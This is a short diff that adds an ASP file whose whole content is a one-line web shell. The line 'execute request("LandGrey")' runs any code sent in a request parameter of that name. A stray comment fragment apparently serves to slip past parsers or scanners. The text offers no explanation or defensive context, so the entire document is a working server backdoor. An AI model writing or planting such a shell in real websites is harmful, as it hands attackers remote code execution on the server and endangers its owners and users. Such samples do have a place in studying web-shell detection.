@@ -1,0 +1,4 @@
+<%
+<!--"-->
+execute request("LandGrey")
+%>
